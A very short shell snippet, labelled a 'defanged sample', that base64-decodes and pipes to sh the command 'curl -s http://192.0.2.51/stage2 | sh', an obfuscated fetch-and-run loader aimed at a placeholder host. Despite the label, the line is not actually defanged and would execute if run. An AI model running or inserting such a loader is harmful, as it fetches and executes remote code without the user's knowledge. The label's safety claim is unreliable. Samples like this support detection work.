# defanged sample (do not run)
echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi41MS9zdGFnZTIgfCBzaA== | base64 -d | sh
